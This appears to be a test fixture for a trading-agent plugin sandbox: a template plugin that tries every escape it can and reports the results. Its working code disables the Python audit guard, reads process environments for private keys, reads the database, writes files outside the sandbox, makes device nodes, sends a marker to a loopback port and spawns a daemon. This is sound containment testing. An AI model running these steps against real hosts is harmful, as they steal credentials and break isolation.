"""HOSTILE TEST PLUGIN (a template: tests fill in the @@…@@ values): take over the interpreter,
then try every way out of the sandbox, and report what worked in the error it raises.

First it switches off the Python-level guard (the audit hook is rebound to do nothing, so
ctypes, fork, sockets and writes anywhere are no longer refused by Python) and loads libc, so
what stops it afterwards can only be the operating system. Then it tries to read the parent's
environment and the database, write outside its tmpfs (Python and raw libc calls), create
device nodes and fifos outside its tmpfs, connect to a loopback port, see other processes,
and leave a daemon running. It raises RuntimeError("REPORT …") with a compact result per
attempt, `-` meaning blocked, and anything secret-looking it read, so that a test can read it
back from the CLI's output. `WHEN` says whether it does all this at import time or in signal().
"""

import contextlib
import os
import sys

import numpy as np
import pandas as pd

from agent.plugins import Strategy

WHEN = "@@WHEN@@"
DB_PATH = "@@DB_PATH@@"
CANARY_PATH = "@@CANARY_PATH@@"
HOST_DIRS = "@@HOST_DIRS@@".split("|")  # noqa: SIM905 (a placeholder the test fills in)
PORT = int("@@PORT@@")
MARKER = "@@MARKER@@"
WANTED = ("AGORA_PRIVATE_KEY=", "AGORA_CANARY=")


def take_over() -> str:
    """Neutralise the audit hook (it cannot be removed, but it can be rebound) and load libc."""
    guard_module = sys.modules.get("agent.plugins._child")
    if guard_module is not None:
        guard_module.AuditGuard.__call__ = lambda self, event, args: None
        guard_module.audit_violation = lambda *args: None
    import ctypes  # refused by the guard before the take-over

    ctypes.CDLL(None, use_errno=True).getpid()
    return "ok"


def read_secrets() -> str:
    found = []
    candidates = ["/proc/1/environ", f"/proc/{os.getppid()}/environ", "/proc/self/environ"]
    with contextlib.suppress(OSError):
        candidates += [f"/proc/{p}/environ" for p in os.listdir("/proc") if p.isdigit()]
    for path in candidates:
        try:
            with open(path, "rb") as handle:
                text = handle.read().decode("utf-8", "replace")
        except OSError:
            continue
        found += [item[:90] for item in text.split("\0") if item.startswith(WANTED)]
    found += [f"{k}={v}"[:90] for k, v in os.environ.items() if k.startswith(WANTED)]
    keys = [item for item in found if item.startswith("AGORA_PRIVATE_KEY=")]
    return "LEAK:" + (keys or found)[0] if found else "-"  # its parent's comes first


def read_database() -> str:
    found = []
    for path in (DB_PATH, CANARY_PATH, f"/proc/{os.getppid()}/root{DB_PATH}"):
        try:
            with open(path, "rb") as handle:
                found.append(handle.read(48).decode("ascii", "replace"))
        except OSError:
            continue
    try:
        import sqlite3

        conn = sqlite3.connect(":memory:")
        conn.execute("ATTACH DATABASE ? AS stolen", (f"file:{DB_PATH}?mode=ro",))
        rows = conn.execute("SELECT name FROM stolen.sqlite_master").fetchall()
        if rows:
            found.append(f"attached:{len(rows)}")
    except Exception:
        pass
    return f"LEAK:{len(found)}:" + found[0][:40] if found else "-"


def write_outside() -> str:
    import ctypes

    libc = ctypes.CDLL(None, use_errno=True)
    wrote = []
    for directory in [*HOST_DIRS, "/var/tmp"]:
        path = os.path.join(directory, f"pwned-{MARKER}.txt")
        try:
            with open(path, "w") as handle:
                handle.write("pwned")
            wrote.append(path)
        except OSError:
            pass
        fd = libc.open(path.encode() + b".raw", os.O_WRONLY | os.O_CREAT, 0o644)
        if fd >= 0:
            libc.write(fd, b"pwned", 5)
            libc.close(fd)
            wrote.append(path + ".raw")
    return f"BREACH:{len(wrote)}" if wrote else "-"


def make_nodes() -> str:
    import stat

    made = []
    for directory in [*HOST_DIRS, "/dev", "/tmp"]:
        node = os.path.join(directory, f"null-{MARKER}")
        try:
            os.mknod(node, stat.S_IFCHR | 0o666, os.makedev(1, 3))
            made.append(node)
        except OSError:
            pass
        if directory != "/tmp":  # a fifo in its own tmpfs is harmless
            try:
                os.mkfifo(os.path.join(directory, f"fifo-{MARKER}"))
                made.append(directory + "/fifo")
            except OSError:
                pass
    return f"BREACH:{len(made)}" if made else "-"


def connect() -> str:
    import socket

    for host in ("127.0.0.1", "::1", "localhost"):
        try:
            with socket.create_connection((host, PORT), timeout=1.0) as sock:
                sock.sendall(b"exfiltrated " + MARKER.encode())
            return f"BREACH:{host}"
        except OSError:
            continue
    return "-"


def processes() -> str:
    """Return how many processes it sees, and how many are not its own sandbox's."""
    pids = [p for p in os.listdir("/proc") if p.isdigit()]
    foreign = 0
    for pid in pids:
        try:
            with open(f"/proc/{pid}/cmdline", "rb") as handle:
                cmdline = handle.read().replace(b"\0", b" ").decode("utf-8", "replace")
        except OSError:
            continue
        if "bwrap" not in cmdline and "agent.plugins._child" not in cmdline:
            foreign += 1
    return f"{len(pids)}/{foreign}"


def daemonize() -> str:
    """Fork, start a new session, fork again and exec a long sleep carrying the marker."""
    try:
        pid = os.fork()
    except OSError as e:
        return f"fork-refused:{e.errno}"
    if pid == 0:
        try:
            os.setsid()
            if os.fork() == 0:
                os.execv(
                    sys.executable,
                    [sys.executable, "-c", "import time; time.sleep(120)", MARKER],
                )
        finally:
            os._exit(0)
    os.waitpid(pid, 0)
    return "started"


def escape() -> None:
    report = {"takeover": take_over()}
    for name, attempt in (
        ("env", read_secrets),
        ("db", read_database),
        ("write", write_outside),
        ("nodes", make_nodes),
        ("net", connect),
        ("procs", processes),
        ("daemon", daemonize),
    ):
        try:
            report[name] = attempt()
        except Exception as e:
            report[name] = f"error:{type(e).__name__}"
    safe = "=:-_/.|"
    items = (
        "".join(c if c.isascii() and (c.isalnum() or c in safe) else "_" for c in f"{k}={v}")
        for k, v in report.items()
    )
    raise RuntimeError("REPORT " + " ".join(items) + " END")


if WHEN == "import":
    escape()


class Escapes(Strategy):
    name = f"escapes-on-{WHEN}"
    description = "Takes over its interpreter, then tries every way out (see the docstring)."

    def signal(self, candles: pd.DataFrame) -> np.ndarray:
        escape()
        return np.zeros(len(candles))
